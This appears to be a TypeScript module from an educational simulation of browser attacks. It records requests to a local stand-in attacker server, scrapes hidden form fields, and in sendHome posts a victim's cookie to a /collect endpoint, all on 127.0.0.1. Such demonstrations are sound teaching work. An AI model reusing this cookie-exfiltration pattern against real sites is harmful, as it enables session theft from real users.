/** What goes on between somebody's browser and the attacker's site: real requests too, and written down like the others. */
import type { Actor, Wire } from './actor.ts';

/** Opens the attacker's page, and returns the fields of the form that it holds. */
export async function visitPage(
  wire: Wire,
  port: number,
  { visitor, host, asker }: { visitor: Actor; host: string; asker: string },
): Promise<Record<string, string>> {
  const page = await exchange(wire, port, {
    from: visitor.name,
    to: asker,
    method: 'GET',
    path: '/',
    host: `${host}:${port}`,
    said: 'a form',
  });
  const fields = page.matchAll(/<input type="hidden" name="([\w-]+)" value="([^"]*)"/g);
  return Object.fromEntries([...fields].map(([, name = '', value = '']) => [name, value]));
}

/** What a script in the page sends to the attacker's server. */
export async function sendHome(
  wire: Wire,
  port: number,
  { from, to, cookie }: { from: Actor; to: Actor; cookie: string },
): Promise<void> {
  await exchange(wire, port, {
    from: from.name,
    to: to.name,
    method: 'POST',
    path: '/collect',
    host: `127.0.0.1:${port}`,
    body: new URLSearchParams({ cookie }).toString(),
    said: 'thank you',
  });
}

interface Exchange {
  readonly from: string;
  readonly to: string;
  readonly method: string;
  readonly path: string;
  readonly host: string;
  readonly body?: string;
  /** What the answer comes to, in the picture. */
  readonly said: string;
}

async function exchange(
  { recorder, signal, next }: Wire,
  port: number,
  { from, to, method, path, host, body, said }: Exchange,
): Promise<string> {
  const number = next();
  recorder.add({
    kind: 'request',
    exchange: number,
    from,
    to,
    line: `${method} ${path}`,
    cookie: undefined,
    raw: recorder.mask(
      [`${method} ${path} HTTP/1.1`, `host: ${host}`, ...(body ? ['', body] : [])].join('\n'),
    ),
    count: 1,
  });
  const answer = await fetch(`http://127.0.0.1:${port}${path}`, {
    method,
    signal,
    ...(body !== undefined && { body }),
  });
  const text = await answer.text();
  recorder.add({
    kind: 'answer',
    exchange: number,
    from: to,
    to: from,
    status: answer.status,
    text: said,
    effect: undefined,
    raw: recorder.mask(`${answer.status} ${answer.statusText}\n\n${text.trim()}`),
    tone: 'plain',
    count: 1,
  });
  return text;
}
